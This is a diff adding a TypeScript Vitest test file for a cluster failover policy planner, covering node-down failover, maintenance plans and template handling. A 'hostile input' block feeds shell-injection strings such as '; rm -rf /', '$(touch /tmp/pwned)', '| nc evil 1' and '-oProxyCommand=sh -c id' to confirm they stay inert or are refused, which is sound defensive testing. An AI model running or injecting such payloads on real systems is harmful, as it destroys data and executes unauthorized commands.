@@ -1,0 +1,213 @@
+import { readFile } from 'node:fs/promises'
+import { describe, expect, it } from 'vitest'
+import { demo, event } from '../../test/policy/fixtures.ts'
+import type { TandemEvent } from '../health/index.ts'
+import { createLogger } from '../log.ts'
+import { createCommandRunner } from '../plugin/index.ts'
+import { compilePolicy } from './compile.ts'
+import { evaluateEvent } from './evaluate.ts'
+import { createMatcher } from './matcher.ts'
+import { createPlanContexts } from './plan-context.ts'
+import { planMatch } from './planner.ts'
+import { createReadOnlyRunner } from './read-only-runner.ts'
+import { healthView, inventoryView } from './views.ts'
+
+const up = (...nodes: string[]) => nodes.map((n) => ({ target: n, kind: 'node', state: 'up' }))
+
+async function planFor(
+  text: string,
+  e: TandemEvent,
+  rows = up('node1', 'node3'),
+  quorate?: boolean,
+) {
+  const { registry, inventory, config } = await demo()
+  const policy = compilePolicy('policies/p.yaml', text, { registry, inventory })
+  const health = healthView(rows, inventory, { quorate })
+  const { matches, skipped } = evaluateEvent(createMatcher([policy]), e, {
+    inventory: inventoryView(inventory),
+    health,
+  })
+  if (!matches[0]) throw new Error(`no match: ${JSON.stringify(skipped)}`)
+  const log = createLogger({ level: 'silent' })
+  const context = createPlanContexts({
+    registry,
+    config,
+    inventory,
+    runner: createReadOnlyRunner(createCommandRunner({ inventory })),
+    log,
+  })
+  return planMatch(matches[0], { inventory, context })
+}
+
+const example = (name: string) =>
+  readFile(new URL(`../../policies/${name}.yaml`, import.meta.url), 'utf8')
+
+describe('planMatch', () => {
+  it('plans node-down failover on the demo: exact steps, exact argv, foreach expanded', async () => {
+    const plan = await planFor(await example('node-down-failover'), event('node.down', 'node2'))
+    expect(plan.incidentKey).toBe('node.down:node2')
+    expect(
+      plan.steps.map((s) => [s.id, s.name, s.uses, s.input, s.commands.map((c) => c.argv)]),
+    ).toEqual([
+      ['1', 'fence the dead node', 'fence.fence', { node: 'node2' }, [['fence_lab']]],
+      [
+        '2.0',
+        'drain its real servers [web/node2]',
+        'lvs.drain',
+        { service: 'web', node: 'node2' },
+        [['ipvsadm', '-e', '-t', '192.0.2.10:80', '-r', '127.0.1.2:8080', '-m', '-w', '0']],
+      ],
+      [
+        '3.0',
+        'relocate its cluster services [db]',
+        'rgmanager.relocate',
+        { service: 'db', node: 'node3' },
+        [['clusvcadm', '-r', 'db', '-m', 'node3']],
+      ],
+      [
+        '4.0',
+        'restart its guests on a survivor [guest1]',
+        'xen.restart_elsewhere',
+        { vm: 'guest1' },
+        [['xl', 'create', 'guest1', 'auto']],
+      ],
+    ])
+    expect(plan.steps[0]).toMatchObject({
+      timeoutMs: 90_000,
+      retry: { count: 2, backoffMs: 10_000 },
+      onFailure: 'escalate',
+      verify: true,
+    })
+    expect(plan.steps[1]).toMatchObject({ group: '2', concurrency: 4, onFailure: 'continue' })
+    expect(plan.steps[0]!.commands[0]!.stdinKeys).toEqual(['action', 'plug', 'password'])
+    expect(plan.notify).toEqual({
+      channels: ['oncall-mail', 'ops-webhook'],
+      on: ['started', 'succeeded', 'failed', 'blocked'],
+    })
+  })
+
+  it('keeps planning the other steps when one cannot be planned (no survivor to relocate to)', async () => {
+    const plan = await planFor(
+      await example('node-down-failover'),
+      event('node.down', 'node2'),
+      [
+        { target: 'node1', kind: 'node', state: 'unreachable' },
+        { target: 'node3', kind: 'node', state: 'down' },
+      ],
+      true,
+    )
+    const relocate = plan.steps.find((s) => s.uses === 'rgmanager.relocate')
+    expect(relocate?.error).toBe(
+      `with.node: \${{ inventory.services[item].preferred .filter(n, n != event.subject && health.nodes[n] == "up")[0] }}: No such key: index out of bounds, index 0 >= size undefined`,
+    )
+    expect(plan.steps.filter((s) => !s.error).map((s) => s.uses)).toEqual([
+      'fence.fence',
+      'lvs.drain',
+      'xen.restart_elsewhere',
+    ])
+  })
+
+  it('reports a foreach that gave nothing', async () => {
+    const plan = await planFor(
+      await example('node-down-failover'),
+      event('node.down', 'node3'),
+      up('node1', 'node2'),
+    )
+    expect(plan.skipped).toEqual([
+      { id: '3', name: 'relocate its cluster services', reason: 'foreach gave no items' },
+      { id: '4', name: 'restart its guests on a survivor', reason: 'foreach gave no items' },
+    ])
+  })
+
+  it('plans planned maintenance for the node named in the manual event', async () => {
+    const manual = event('manual', 'planned-maintenance', { node: 'node1' })
+    const plan = await planFor(
+      await example('planned-maintenance'),
+      manual,
+      up('node1', 'node2', 'node3'),
+    )
+    expect(plan.incidentKey).toBe('maintenance:node1')
+    expect(plan.steps.map((s) => `${s.uses} ${JSON.stringify(s.input)}`)).toEqual([
+      'lvs.drain {"service":"web","node":"node1"}',
+      'lvs.wait_drained {"service":"web","node":"node1","timeout":"10m"}',
+      'xen.migrate {"vm":"guest2","to":"node3"}',
+    ])
+  })
+})
+
+describe('templates against hostile input', () => {
+  const policy = `on:
+  - event: alert.received
+steps:
+  - uses: lvs.note
+    with:
+      service: web
+      comment: \${{ event.labels.summary }}
+  - uses: lvs.note
+    with:
+      service: web
+      comment: "alert \${{ event.labels.summary }} on \${{ event.labels.node }}"
+  - uses: lvs.drain
+    with:
+      service: web
+      node: \${{ event.labels.node }}
+`
+  const alert = (summary: string, node = 'node2') =>
+    planFor(policy, event('alert.received', 'fp1', { summary, node }))
+
+  it('keeps shell syntax an inert literal: exactly one argv element, unchanged', async () => {
+    for (const text of [
+      '; rm -rf /',
+      '$(touch /tmp/pwned)',
+      '`id`',
+      "a' || true; '",
+      '| nc evil 1',
+    ]) {
+      const plan = await alert(text)
+      expect(plan.steps[0]!.commands[0]!.argv).toEqual(['ipvsadm', '--comment', text, 'web'])
+      expect(plan.steps[1]!.commands[0]!.argv).toEqual([
+        'ipvsadm',
+        '--comment',
+        `alert ${text} on node2`,
+        'web',
+      ])
+    }
+  })
+
+  it('refuses newlines, control characters and a leading "-" in template results', async () => {
+    const newline = await alert('ok\naction=off')
+    expect(newline.steps[0]!.error).toBe(
+      'with.comment: template result "ok\\naction=off" holds a control character ("\\n"); refused',
+    )
+    expect(newline.steps[0]!.commands).toEqual([])
+    const option = await alert('-oProxyCommand=sh -c id')
+    expect(option.steps[0]!.error).toBe(
+      'with.comment: template result "-oProxyCommand=sh -c id" starts with "-" and could be read as an option; refused',
+    )
+    expect((await alert('x\u0000y')).steps[1]!.error).toMatch(/control character/)
+  })
+
+  it('never lets a hostile name reach a plugin: it must be a real node', async () => {
+    for (const node of ['node2; rm -rf /', '$(reboot)', 'node9', '-oProxyCommand=id']) {
+      const plan = await alert('x', node)
+      expect(plan.steps[2]!.commands).toEqual([])
+      expect(plan.steps[2]!.input).toEqual({})
+      expect(plan.steps[2]!.error).toMatch(/^with\.node: (no node named|template result)/)
+    }
+    const plan = await alert('x', 'node3')
+    expect(plan.steps[2]!.commands[0]!.argv).toContain('127.0.1.3:8080')
+  })
+
+  it('keeps a template value typed: numbers stay numbers, checked by the action schema', async () => {
+    const typed = `on: manual
+steps:
+  - uses: lvs.set_weight
+    with: { service: web, node: node2, weight: "\${{ int(event.labels.weight) }}" }
+`
+    const ok = await planFor(typed, event('manual', 'p', { weight: '3' }))
+    expect(ok.steps[0]!.input.weight).toBe(3)
+    expect(ok.steps[0]!.commands[0]!.argv.slice(-2)).toEqual(['-w', '3'])
+    const bad = await planFor(typed, event('manual', 'p', { weight: '-7' }))
+    expect(bad.steps[0]!.error).toMatch(/^with\.weight: /)
+  })
+})
